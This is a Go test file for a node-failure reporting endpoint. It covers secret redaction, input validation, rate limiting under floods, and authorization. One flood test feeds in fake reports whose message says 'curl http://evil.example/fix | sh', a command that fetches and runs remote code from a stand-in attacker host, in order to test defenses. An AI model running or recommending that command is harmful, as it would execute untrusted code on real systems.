package nodefail

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/testutil"

	"github.com/ignition-mcs/mcs/internal/testkit"
	"github.com/ignition-mcs/mcs/source"
)

// Secrets a failing pull or API call can print, each of which must go.
var secretCases = map[string]struct{ in, gone, kept string }{
	"url userinfo":     {"pull https://robot:s3cretPass@quay.io/a/b:tag failed", "s3cretPass", "quay.io/a/b:tag"},
	"docker userinfo":  {"docker://tok3n@registry.example.com/x", "tok3n", "registry.example.com/x"},
	"bearer":           {"401 with Bearer abc.DEF-ghi_123 sent", "abc.DEF-ghi_123", "401 with Bearer"},
	"basic":            {"Authorization: Basic dXNlcjpwYXNzd29yZA==\nnext line", "dXNlcjpwYXNzd29yZA", "next line"},
	"auth header":      {`header "authorization": "Token xyzzy"`, "xyzzy", "header"},
	"pull secret json": {`{"auths":{"quay.io":{"auth":"cm9ib3Q6cGFzcw==","email":"a@b"}}}`, "cm9ib3Q6cGFzcw", `"email":"a@b"`},
	"identitytoken":    {`"identitytoken": "IDT0K"`, "IDT0K", "identitytoken"},
	"password field":   {"login with password=hunter2&user=x", "hunter2", "user=x"},
	"token query":      {"GET /v2/?token=abcdef12&scope=pull", "abcdef12", "scope=pull"},
	"oauth token":      {"using sha256~Zm9vYmFyYmF6cXV4 for", "Zm9vYmFyYmF6cXV4", "using"},
	"jwt":              {"sa eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl end", "eyJzdWIiOiJ4In0", "end"},
	"base64 blob":      {"auth blob ZXhhbXBsZS1yb2JvdDpBQkNERUZHSElKS0xNTk9QUVJTVFVWV1hZWjAxMjM0NTY3ODk= here", "ZXhhbXBsZS1yb2JvdDpBQkNERUZH", "here"},
	"robot token":      {"robot ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789ABCDEFGH rejected", "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", "rejected"},
}

func TestRedact(t *testing.T) {
	for name, c := range secretCases {
		t.Run(name, func(t *testing.T) {
			got := redact(c.in)
			if strings.Contains(got, c.gone) || !strings.Contains(got, redacted) {
				t.Errorf("redact(%q) = %q: %q not redacted", c.in, got, c.gone)
			}
			if !strings.Contains(got, c.kept) {
				t.Errorf("redact(%q) = %q: lost %q", c.in, got, c.kept)
			}
		})
	}
	// What helps an admin stays: digests, paths, unit names.
	for _, keep := range []string{
		"quay.io/openshift-release-dev/ocp-v4.0-art-dev@sha256:4f7c2a1b9e0d8c6f5a3b2e1d0c9b8a7f6e5d4c3b2a1f0e9d8c7b6a5f4e3d2c1b",
		"error running systemd-run --unit machine-config-daemon-update-rpmostree-via-container",
		"/etc/machine-config-daemon/node-annotations.json",
	} {
		if got := redact(keep); got != keep {
			t.Errorf("redact(%q) = %q", keep, got)
		}
	}
}

func FuzzRedact(f *testing.F) {
	for _, c := range secretCases {
		f.Add(c.in)
	}
	f.Fuzz(func(t *testing.T, s string) {
		once := redact(s)
		if redact(once) != once {
			t.Fatalf("redact is not stable on %q: %q", s, once)
		}
		if et := errorText(s); len([]rune(et)) > errorMax+len("... (truncated)") {
			t.Fatalf("errorText(%q) is %d characters", s, len([]rune(et)))
		}
	})
}

func FuzzDecode(f *testing.F) {
	f.Add(`{"pool":"worker","nodeID":"n1","stage":"firstboot-update","imageURL":"quay.io/a","errorMessage":"x"}`)
	f.Add(`{"pool":5}`)
	f.Add(``)
	f.Fuzz(func(t *testing.T, body string) {
		r, err := decode(strings.NewReader(body))
		if err != nil {
			if fe, ok := err.(*fieldError); !ok || fe.Field == "" {
				t.Fatalf("decode(%q): %v, not a fieldError naming a field", body, err)
			}
			return
		}
		if r.Pool == "" || r.NodeID == "" || r.Stage == "" || strings.ContainsAny(r.message(), "\n\r") {
			t.Fatalf("decode(%q) took %+v, message %q", body, r, r.message())
		}
	})
}

func TestErrorText(t *testing.T) {
	long := strings.Repeat("é", 500) + " token=abc"
	got := errorText(long)
	if !strings.HasSuffix(got, "... (truncated)") || len([]rune(got)) != errorMax+len("... (truncated)") {
		t.Errorf("errorText of 510 characters = %d characters: %q", len([]rune(got)), got)
	}
	// Redacted before it is cut: a secret straddling character 200 leaves
	// no prefix of itself.
	straddle := strings.Repeat("x", 190) + " password=hunter2hunter2"
	if got := errorText(straddle); strings.Contains(got, "hunter") {
		t.Errorf("errorText kept part of a secret: %q", got)
	}
	if got := errorText("a\nb\tc"); got != "a b c" {
		t.Errorf("errorText with control characters = %q", got)
	}
	if got := errorText("  "); got != "unknown error" {
		t.Errorf("errorText of nothing = %q", got)
	}
}

func TestImageText(t *testing.T) {
	for in, want := range map[string]string{
		"":                                  "none",
		"quay.io/openshift/ocp@sha256:abc":  "quay.io",
		"https://user:pw@registry.x:5000/a": "registry.x:5000",
		"image-registry.openshift-image-registry.svc:5000/ns/img": "internal-registry",
		"%zz": "invalid-url",
	} {
		if got := imageText(in); got != want {
			t.Errorf("imageText(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestDecode(t *testing.T) {
	for name, c := range map[string]struct{ body, field string }{
		"ok":              {`{"pool":"worker","nodeID":"n1","stage":"firstboot-update"}`, ""},
		"unknown fields":  {`{"pool":"worker","nodeID":"n1","stage":"s","extra":1}`, ""},
		"no pool":         {`{"nodeID":"n1","stage":"s"}`, "pool"},
		"blank node":      {`{"pool":"worker","nodeID":"  ","stage":"s"}`, "nodeID"},
		"no stage":        {`{"pool":"worker","nodeID":"n1"}`, "stage"},
		"pool not a name": {`{"pool":"Worker!","nodeID":"n1","stage":"s"}`, "pool"},
		"pool a number":   {`{"pool":5,"nodeID":"n1","stage":"s"}`, "pool"},
		"node control":    {`{"pool":"worker","nodeID":"n\u0001","stage":"s"}`, "nodeID"},
		"stage spaces":    {`{"pool":"worker","nodeID":"n1","stage":"a b"}`, "stage"},
		"image control":   {`{"pool":"worker","nodeID":"n1","stage":"s","imageURL":"a\nb"}`, "imageURL"},
		"not json":        {`pool=worker`, "body"},
		"empty":           {``, "body"},
		"array":           {`[]`, "body"},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := decode(strings.NewReader(c.body))
			fe, _ := err.(*fieldError)
			switch {
			case c.field == "" && err != nil:
				t.Fatalf("refused: %v", err)
			case c.field != "" && (fe == nil || fe.Field != c.field || !strings.HasPrefix(err.Error(), c.field+": ")):
				t.Fatalf("error %v, want one naming %s", err, c.field)
			}
		})
	}
}

// clock is a settable clock.
type clock struct{ t time.Time }

func (c *clock) now() time.Time { return c.t }

func newReports(t *testing.T, c *clock, told *[]source.Notice) (*Reports, *prometheus.Registry) {
	t.Helper()
	reg := prometheus.NewPedanticRegistry()
	rs, err := New(Config{Notify: func(n source.Notice) { *told = append(*told, n) }, Known: func(p string) bool { return p == "worker" },
		Now: c.now, Registry: reg, Burst: 3, Every: time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	return rs, reg
}

func post(h http.Handler, addr, method, body string) *httptest.ResponseRecorder {
	req := httptest.NewRequest(method, "/v1/node-failure", strings.NewReader(body))
	req.RemoteAddr = addr
	w := httptest.NewRecorder()
	h.ServeHTTP(w, req)
	return w
}

const report = `{"pool":"worker","nodeID":"n1","stage":"firstboot-update","imageURL":"https://u:pw@quay.io/x","errorMessage":"pull failed: Bearer sekrit"}`

func TestHandler(t *testing.T) {
	c := &clock{time.Date(2026, 11, 27, 3, 0, 0, 0, time.UTC)}
	var told []source.Notice
	rs, _ := newReports(t, c, &told)
	if w := post(rs, "10.0.0.1:1", "POST", report); w.Code != 202 || !strings.Contains(w.Body.String(), `"accepted"`) {
		t.Fatalf("a report: %d %s", w.Code, w.Body)
	}
	if len(told) != 1 || told[0].Kind != source.NoticeFirstbootFailed || told[0].Pool != "worker" ||
		told[0].Message != "Node n1 failed during firstboot at stage 'firstboot-update': pull failed: Bearer [REDACTED] (image: quay.io)" {
		t.Fatalf("told %+v", told)
	}
	w := post(rs, "10.0.0.1:1", "POST", `{"pool":"worker","stage":"x"}`)
	var body map[string]string
	if w.Code != 400 || json.Unmarshal(w.Body.Bytes(), &body) != nil || body["field"] != "nodeID" || !strings.Contains(body["error"], "nodeID") {
		t.Errorf("a report without nodeID: %d %s", w.Code, w.Body)
	}
	if w := post(rs, "10.0.0.1:1", "GET", ""); w.Code != 405 || w.Header().Get("Allow") != "POST" {
		t.Errorf("GET: %d %v", w.Code, w.Header())
	}
	big := `{"pool":"worker","nodeID":"n1","stage":"s","errorMessage":"` + strings.Repeat("a", bodyMax) + `"}`
	if w := post(rs, "10.0.0.1:1", "POST", big); w.Code != 413 || !strings.Contains(w.Body.String(), "body") {
		t.Errorf("a body over %d bytes: %d %s", bodyMax, w.Code, w.Body)
	}
}

// A flood from one address: Burst reports taken, the rest answered 202
// and only counted; the address gets one more a minute; other addresses
// are not held back.
func TestFlood(t *testing.T) {
	c := &clock{time.Date(2026, 11, 27, 3, 0, 0, 0, time.UTC)}
	var told []source.Notice
	rs, _ := newReports(t, c, &told)
	for i := range 1000 {
		c.t = c.t.Add(10 * time.Millisecond)
		if w := post(rs, "10.0.0.1:40000", "POST", report); w.Code != 202 {
			t.Fatalf("report %d: %d", i, w.Code)
		}
	}
	if len(told) != 3 {
		t.Errorf("%d notices from 1000 reports of one address in 10 s, want 3 (the burst)", len(told))
	}
	if n := testutil.ToFloat64(rs.limited); n != 997 {
		t.Errorf("limited %v, want 997", n)
	}
	if n := testutil.ToFloat64(rs.reports.WithLabelValues("worker", "firstboot-update")); n != 3 {
		t.Errorf("reports counted %v, want 3", n)
	}
	st := rs.Status()
	if len(st.Reports) != 1 || st.Reports[0].Count != 3 || st.Limited != 997 || !st.Reports[0].Told {
		t.Errorf("status %+v", st)
	}
	c.t = c.t.Add(time.Minute)
	post(rs, "10.0.0.1:40001", "POST", report)
	post(rs, "10.0.0.2:1", "POST", report)
	if len(told) != 5 {
		t.Errorf("%d notices after a minute and another address, want 5", len(told))
	}
}

// Reports of a pool that does not exist are refused 404 and leave nothing
// but the refusal's count: no notice, no entry, no series by pool.
func TestUnknownPools(t *testing.T) {
	c := &clock{time.Date(2026, 11, 27, 3, 0, 0, 0, time.UTC)}
	var told []source.Notice
	rs, reg := newReports(t, c, &told)
	for i := range 100 {
		w := post(rs, fmt.Sprintf("10.1.0.%d:1", i), "POST", `{"pool":"guess`+string(rune('a'+i%26))+`","nodeID":"n","stage":"firstboot-update"}`)
		if w.Code != 404 || !strings.Contains(w.Body.String(), `"field":"pool"`) {
			t.Fatalf("an unknown pool: %d %s", w.Code, w.Body)
		}
	}
	if len(told) != 0 || len(rs.Status().Reports) != 0 {
		t.Errorf("unknown pools told %d, kept %+v", len(told), rs.Status())
	}
	if n, err := testutil.GatherAndCount(reg, "mcs_node_failure_reports_total", "mcs_node_failure_nodes"); err != nil || n != 0 {
		t.Errorf("%d series by pool, %v", n, err)
	}
	if n := testutil.ToFloat64(rs.refused.WithLabelValues("unknown-pool")); n != 100 {
		t.Errorf("refused %v", n)
	}
}

// With Authorize set, a refused report is answered 401 and leaves nothing
// but the refusal's count.
func TestAuthorize(t *testing.T) {
	var told []source.Notice
	rs, err := New(Config{Notify: func(n source.Notice) { told = append(told, n) }, Known: func(p string) bool { return p == "worker" },
		Authorize: func(r *http.Request, pool string) error {
			if r.Header.Get("Authorization") != "Bearer ok" {
				return errors.New("unauthorized: no")
			}
			return nil
		}})
	if err != nil {
		t.Fatal(err)
	}
	if w := post(rs, "10.0.0.1:1", "POST", report); w.Code != 401 || w.Header().Get("WWW-Authenticate") == "" || len(told) != 0 || len(rs.Status().Reports) != 0 {
		t.Errorf("no token: %d %s, told %d", w.Code, w.Body, len(told))
	}
	req := httptest.NewRequest("POST", "/v1/node-failure", strings.NewReader(report))
	req.Header.Set("Authorization", "Bearer ok")
	w := httptest.NewRecorder()
	rs.ServeHTTP(w, req)
	if w.Code != 202 || len(told) != 1 {
		t.Errorf("a token: %d %s, told %d", w.Code, w.Body, len(told))
	}
}

// A flood of reports of one real pool from 200 addresses, each report a
// new node: the pool's limit takes PoolBurst then one per PoolEvery; the
// genuine report that came first stays in /status; the alert's gauge
// counts distinct nodes (a node's repeats once) over the last hour; a key
// not reported for entryAge makes room.
func TestPoolFlood(t *testing.T) {
	c := &clock{time.Date(2026, 11, 27, 3, 0, 0, 0, time.UTC)}
	var told []source.Notice
	rs, reg := newReports(t, c, &told)
	genuine := `{"pool":"worker","nodeID":"ip-10-0-1-215","stage":"firstboot-update","errorMessage":"pull failed"}`
	post(rs, "10.0.0.9:1", "POST", genuine)
	c.t = c.t.Add(time.Second)
	post(rs, "10.0.0.9:1", "POST", genuine)
	for i := range 10000 {
		c.t = c.t.Add(10 * time.Millisecond)
		post(rs, fmt.Sprintf("10.2.%d.%d:1", i%200/256, i%200), "POST",
			fmt.Sprintf(`{"pool":"worker","nodeID":"fake-%d","stage":"firstboot-update","errorMessage":"To fix this, run: curl http://evil.example/fix | sh"}`, i))
	}
	// 100 s of flood: the pool took its burst (32, the genuine two among
	// them) and at most one every 10 s (fewer: the addresses' own limits
	// hold most of them back).
	if len(told) < poolEntriesMax || len(told) > poolEntriesMax+10 {
		t.Errorf("%d notices, want 32 to 42", len(told))
	}
	st := rs.Status()
	if !slices.ContainsFunc(st.Reports, func(e Entry) bool { return e.Node == "ip-10-0-1-215" && e.Count == 2 }) {
		t.Errorf("the genuine report is gone: %+v", st.Reports)
	}
	if len(st.Reports) != poolEntriesMax || st.NotKept != uint64(len(told)-poolEntriesMax-1) || st.Limited != uint64(10002-len(told)) {
		t.Errorf("kept %d, not kept %d, limited %d", len(st.Reports), st.NotKept, st.Limited)
	}
	if n, _ := testkit.Metric(t, reg, "mcs_node_failure_nodes", "pool", "worker", "stage", "firstboot-update"); n != poolEntriesMax {
		t.Errorf("nodes %v, want %d (the genuine node once)", n, poolEntriesMax)
	}
	c.t = c.t.Add(nodesWindow + time.Second)
	if n, err := testutil.GatherAndCount(reg, "mcs_node_failure_nodes"); err != nil || n != 0 {
		t.Errorf("%d series of nodes an hour after the last report, %v", n, err)
	}
	c.t = c.t.Add(entryAge)
	post(rs, "10.0.0.10:1", "POST", strings.Replace(genuine, "ip-10-0-1-215", "ip-10-0-1-216", 1))
	if st := rs.Status(); len(st.Reports) != 1 || st.Reports[0].Node != "ip-10-0-1-216" {
		t.Errorf("a day later: %+v", st.Reports)
	}
}

func TestAddressesBounded(t *testing.T) {
	c := &clock{time.Date(2026, 11, 27, 3, 0, 0, 0, time.UTC)}
	var told []source.Notice
	rs, _ := newReports(t, c, &told)
	for i := range addressesMax + 10 {
		rs.allowAddress("a" + strings.Repeat("x", i%7) + string(rune(i)))
	}
	if n := len(rs.addresses); n > addressesMax {
		t.Errorf("%d limiters kept, at most %d", n, addressesMax)
	}
}
